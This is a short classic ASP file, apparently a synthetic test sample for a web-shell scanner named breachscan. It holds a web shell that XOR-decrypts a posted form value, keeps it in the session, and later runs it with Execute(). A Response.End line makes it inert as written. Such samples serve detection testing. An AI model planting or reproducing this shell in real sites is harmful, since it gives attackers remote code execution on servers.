<%
' synthetic test sample for breachscan: XOR-decrypted posted payload kept in the session and executed. Inert: Response.End first.
Response.End
Function D(s, k)
  Dim i, r
  For i = 1 To Len(s)
    r = r & Chr(Asc(Mid(s, i, 1)) Xor Asc(Mid(k, (i Mod Len(k)) + 1, 1)))
  Next
  D = r
End Function
Dim p
p = Request.Form("z")
If IsEmpty(Session("payload")) Then
  Session("payload") = D(p, "samplekey")
Else
  Execute(Session("payload"))
End If
%>
